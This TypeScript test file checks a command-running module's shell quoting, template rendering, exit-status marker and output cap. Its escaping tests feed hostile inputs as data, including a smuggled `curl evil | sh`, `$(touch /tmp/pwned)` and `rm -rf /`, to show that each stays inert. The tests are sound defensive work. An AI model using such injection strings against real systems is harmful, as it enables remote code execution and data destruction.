import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { capOutput, createCommandLiquid, readExitStatus, renderCommand, shellQuote, withExitMarker, EXIT_MARKER, MAX_KEPT_OUTPUT } from './run-command.js';

const sh = (command: string) => execFileSync('/bin/sh', ['-c', command], { encoding: 'utf8', env: { PATH: '/usr/bin:/bin' } });

describe('shell escaping of interpolated values', () => {
  const hostile = [`x"; curl evil | sh; "`, `$(touch /tmp/pwned)`, '`id`', "it's; rm -rf /", 'a\nb', '$HOME & echo hi', ''];
  it.each(hostile)('%j reaches the shell as one inert argument', (value) => {
    expect(sh(`printf '%s' ${shellQuote(value)}`)).toBe(value);
  });

  it('templates quote every value but keep the command as written', () => {
    const liquid = createCommandLiquid();
    const command = renderCommand(liquid, 'echo {{ incident.title }} | wc -c && echo {{ app.name | upcase }}', { incident: { title: 'x"; curl evil | sh; "' }, app: { name: 'shop' } });
    expect(command).toBe(`echo 'x"; curl evil | sh; "' | wc -c && echo 'SHOP'`);
    expect(sh(command).split('\n').map((s) => s.trim())).toEqual([String('x"; curl evil | sh; "'.length + 1), 'SHOP', '']);
  });

  it('a broken template is refused', () => {
    expect(() => renderCommand(createCommandLiquid(), 'echo {{ x | nope }}', {})).toThrow(/command is not a valid template: undefined filter: nope/);
  });
});

describe('exit status marker', () => {
  it('is appended and read back from real shell output', () => {
    expect(readExitStatus(sh(withExitMarker('echo hello')))).toEqual({ output: 'hello\n', exitStatus: 0 });
    expect(readExitStatus(sh(withExitMarker('echo oops; false')))).toEqual({ output: 'oops\n', exitStatus: 1 });
    expect(readExitStatus(sh(withExitMarker('sh -c "exit 3"')))).toEqual({ output: '', exitStatus: 3 });
    // `exit` ends the command, not the wrapper, and a trailing comment does not break it.
    expect(readExitStatus(sh(withExitMarker('echo bye; exit 4')))).toEqual({ output: 'bye\n', exitStatus: 4 });
    expect(readExitStatus(sh(withExitMarker('echo hi # a comment')))).toEqual({ output: 'hi\n', exitStatus: 0 });
    expect(readExitStatus(sh(withExitMarker("printf 'no newline'")))).toEqual({ output: 'no newline', exitStatus: 0 });
  });
  it('is absent when the command did not finish', () => {
    expect(readExitStatus('partial output')).toEqual({ output: 'partial output', exitStatus: null });
    expect(readExitStatus(`${EXIT_MARKER} 0\nmore`).exitStatus).toBeNull();
  });
});

describe('output cap', () => {
  it('keeps the end and says it was cut', () => {
    const capped = capOutput(`${'a'.repeat(MAX_KEPT_OUTPUT)}THE END`);
    expect(capped.truncated).toBe(true);
    expect(capped.output).toMatch(/^\[output truncated: the first 7 characters are not kept\]\n/);
    expect(capped.output.endsWith('THE END')).toBe(true);
    expect(capOutput('short')).toEqual({ output: 'short', truncated: false });
  });
});
